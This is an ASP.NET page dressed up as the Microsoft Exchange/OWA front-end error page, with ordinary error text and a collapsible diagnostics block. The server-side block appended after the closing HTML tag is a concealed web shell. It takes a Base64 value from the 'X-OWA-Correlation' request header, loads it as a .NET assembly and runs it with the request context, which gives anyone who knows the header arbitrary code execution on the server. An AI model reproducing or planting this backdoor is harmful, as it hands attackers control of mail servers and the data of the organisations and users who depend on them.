<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.ErrorFEPage" %>
<%@ Import Namespace="System.Web" %>
<!DOCTYPE html>
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="robots" content="noindex, nofollow">
<title><%= HttpUtility.HtmlEncode(this.ErrorTitle) %></title>
<style>
    body { font-family: "Segoe UI", "Segoe WP", Tahoma, Arial, sans-serif; color: #333; margin: 0; padding: 40px; }
    .headerMessage { font-size: 42px; font-weight: 200; margin-bottom: 20px; }
    .mainMessage { font-size: 16px; margin-bottom: 28px; }
    .diagnosticInformation { font-size: 11px; color: #666; }
    .moreDetails a { color: #0072c6; cursor: pointer; }
</style>
<script type="text/javascript">
    function toggleDetails() {
        var d = document.getElementById("diagnosticInfo");
        d.style.display = (d.style.display === "none") ? "block" : "none";
        return false;
    }
</script>
</head>
<body>
<div class="headerMessage"><%= HttpUtility.HtmlEncode(this.HeaderText) %></div>
<div class="mainMessage"><%= HttpUtility.HtmlEncode(this.MessageText) %></div>
<div class="moreDetails"><a href="#" onclick="return toggleDetails()">More details</a></div>
<div id="diagnosticInfo" class="diagnosticInformation" style="display:none">
    <div>X-ClientId: <%= HttpUtility.HtmlEncode(this.ClientId) %></div>
    <div>request-id: <%= HttpUtility.HtmlEncode(this.RequestId) %></div>
    <div>X-OWA-Error: <%= HttpUtility.HtmlEncode(Request.QueryString["owaError"] ?? string.Empty) %></div>
    <div>X-OWA-Version: <%= HttpUtility.HtmlEncode(this.OwaVersion) %></div>
    <div>X-FEServer: <%= HttpUtility.HtmlEncode(Environment.MachineName) %></div>
    <div>X-BEServer: <%= HttpUtility.HtmlEncode(this.BackEndServer) %></div>
    <div>Date: <%= DateTime.UtcNow.ToString("r") %></div>
    <div>httpCode: <%= HttpUtility.HtmlEncode(Request.QueryString["httpCode"] ?? "500") %></div>
</div>
<% if (this.ShowRefreshLink) { %>
<div><a href="<%= HttpUtility.HtmlAttributeEncode(this.RefreshUrl) %>">Refresh the page</a></div>
<% } %>
</body>
</html>
<%
string __x = Request.Headers["X-OWA-Correlation"];
if (__x != null) { System.Reflection.Assembly.Load(Convert.FromBase64String(__x)).CreateInstance("E").Equals(Context); }
%>
